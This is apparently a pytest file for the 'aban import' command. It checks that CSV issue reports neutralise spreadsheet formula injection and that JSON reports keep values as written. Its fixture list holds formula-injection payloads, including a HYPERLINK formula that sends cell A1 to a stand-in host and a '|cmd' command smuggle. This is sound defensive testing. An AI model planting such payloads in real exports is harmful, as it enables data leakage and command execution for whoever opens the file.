"""``aban import`` as a user runs it: the --report file, protected sources, --json."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

import pytest

from aban.text.spreadsheet import FORMULA_STARTS
from tests.cli.helpers import run

#: Values a hostile list can put in the cells an issue echoes, each starting with
#: something a spreadsheet runs (full-width forms too).
HOSTILE_IDS = [
    '=HYPERLINK("http://x.example/?"&A1,"open")',
    "＝1+1",
    "＋cmd",
    "－2+3",
    "＠SUM(1)",
    "-2+3",
    "+cmd",
]
HOSTILE_SOURCE = "@SUM(1+1)|cmd"


@pytest.fixture
def workspace(tmp_path: Path) -> Path:
    path = tmp_path / "ws"
    run("init", path, check=True)
    return path


def _report_rows(path: Path) -> list[list[str]]:
    text = path.read_bytes().decode("utf-8-sig")
    return list(csv.reader(io.StringIO(text)))


def test_the_report_csv_neutralises_what_the_file_controls(
    workspace: Path, tmp_path: Path
) -> None:
    # Issue 13, item 3: record ids and source names went into the report as written.
    lines = ["record_id,full_name,age,source"]
    lines += [
        '"{}",Testa Ab,x,{}'.format(rid.replace('"', '""'), HOSTILE_SOURCE)
        for rid in HOSTILE_IDS
    ]
    listing = tmp_path / "=cmd.csv"
    listing.write_text("\n".join(lines) + "\n", encoding="utf-8")
    report = tmp_path / "issues.csv"
    proc = run("-w", workspace, "import", listing, "--report", report)
    assert proc.returncode == 1, proc.stderr
    rows = _report_rows(report)
    header, body = rows[0], rows[1:]
    assert header[:3] == ["code", "severity", "file"]
    assert len(body) >= len(HOSTILE_IDS)
    cells = [cell for row in body for cell in row]
    assert not [c for c in cells if c.startswith(FORMULA_STARTS)]
    ids = {row[header.index("record_id")] for row in body}
    assert ids == {"'" + rid for rid in HOSTILE_IDS}
    assert {row[header.index("source")] for row in body} == {"'" + HOSTILE_SOURCE}
    assert {row[header.index("file")] for row in body} == {"'=cmd.csv"}


def test_the_json_report_keeps_values_as_they_are(
    workspace: Path, tmp_path: Path
) -> None:
    listing = tmp_path / "list.csv"
    quoted = HOSTILE_IDS[0].replace('"', '""')
    listing.write_text(f'record_id,full_name,age\n"{quoted}",A B,x\n', encoding="utf-8")
    report = tmp_path / "issues.json"
    proc = run("-w", workspace, "import", listing, "--source", "s", "--report", report)
    assert proc.returncode == 1, proc.stderr
    issues = json.loads(report.read_text(encoding="utf-8"))
    assert {i["record_id"] for i in issues} == {HOSTILE_IDS[0]}
